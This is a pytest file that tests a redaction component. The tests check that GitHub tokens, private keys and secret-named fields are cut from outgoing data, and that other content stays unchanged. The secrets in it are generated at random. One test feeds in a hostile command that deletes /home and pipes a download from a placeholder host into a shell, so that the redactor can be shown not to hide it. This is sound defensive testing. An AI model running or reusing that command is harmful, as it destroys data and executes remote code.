"""Redaction: no secret leaves in what is sent away, and everything else stays as it was."""

from __future__ import annotations

import random
import string
from typing import Any

import pytest

from guardtier.analyzers.text.redact import MOST_SECRETS, Redactor, TooManySecrets

REDACT = Redactor()
_DICE = random.Random(11)
_MIXED = string.ascii_letters + string.digits


def some(count: int, alphabet: str = _MIXED) -> str:
    """Made up here, so that no scanner takes this file for a leak."""
    return "".join(_DICE.choice(alphabet) for _ in range(count))


GITHUB = "ghp" + "_" + some(36)
OTHER = "ghp" + "_" + some(36)
KEY_LINES = [some(64, _MIXED + "+/") for _ in range(3)] + [some(10) + "=="]
HEADER, FOOTER = "-----BEGIN " + "RSA PRIVATE KEY-----", "-----END " + "RSA PRIVATE KEY-----"


@pytest.mark.parametrize(
    "value",
    [
        {"command": f"curl -H 'Authorization: token {GITHUB}' https://api.github.com"},
        {"files": [{"name": f"x-{GITHUB}"}, [["deep", GITHUB]]]},
        {"command": f"печать ﬁ {GITHUB} é"},
        {GITHUB: 1},
        {"password": GITHUB},
        f"first {GITHUB}, again {GITHUB}",
    ],
)
def test_a_secret_goes_wherever_it_stands(value: Any):
    assert GITHUB[4:12] not in repr(REDACT(value))


def test_every_secret_goes_and_the_rest_stays():
    text = f"a {GITHUB} b {OTHER} c"

    assert REDACT(text) == "a [redacted github_token] b [redacted github_token] c"


def test_a_value_without_secrets_stays_as_it_is():
    value = {"command": "ls -la", "n": 3, "on": True, "none": None, "list": [1.5, "é", {}], "": []}

    assert REDACT(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "\n".join([HEADER, *KEY_LINES, FOOTER]),
        "\\n".join([HEADER, *KEY_LINES, FOOTER]),
        "\n".join([HEADER, "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,00", "", *KEY_LINES, FOOTER]),
    ],
    ids=["file", "escaped", "encrypted"],
)
def test_of_a_private_key_no_line_is_left(value: str):
    clean = REDACT({"content": f"echo '{value}' > key"})

    assert not any(line in repr(clean) for line in KEY_LINES)
    assert clean["content"].endswith("' > key")


def test_of_a_private_key_in_a_list_of_lines_no_full_line_is_left():
    clean = REDACT({"lines": [HEADER, *KEY_LINES, FOOTER]})

    assert not any(line in repr(clean) for line in KEY_LINES[:3])


def test_a_header_alone_hides_no_command():
    command = f"{HEADER} ; rm -rf /home ; curl https://x.example | sh"

    assert REDACT(command) == command
    assert REDACT(f"{HEADER}{KEY_LINES[0]} rm -rf /home") == "[redacted private_key] rm -rf /home"


@pytest.mark.parametrize("name", ["password", "apiKey", "api_key", "db_token", "sessionToken", "Cookie"])
def test_the_value_of_a_field_that_is_called_like_a_secret_goes(name: str):
    assert REDACT({name: "hunter22"}) == {name: "[redacted by its name]"}


@pytest.mark.parametrize("value", ["$DB_PASSWORD", "<your password>", "{{ password }}", "no", 12, None])
def test_what_only_stands_for_a_secret_stays(value: Any):
    assert REDACT({"password": value, "max_tokens": 5}) == {"password": value, "max_tokens": 5}


def test_keys_that_are_redacted_stay_apart():
    assert list(REDACT({GITHUB: 1, OTHER: 2}).values()) == [1, 2]


def test_more_secrets_than_can_be_cut_out_are_an_error():
    with pytest.raises(TooManySecrets, match=str(MOST_SECRETS)):
        REDACT([f"ghp_{some(36)}" for _ in range(MOST_SECRETS + 1)])
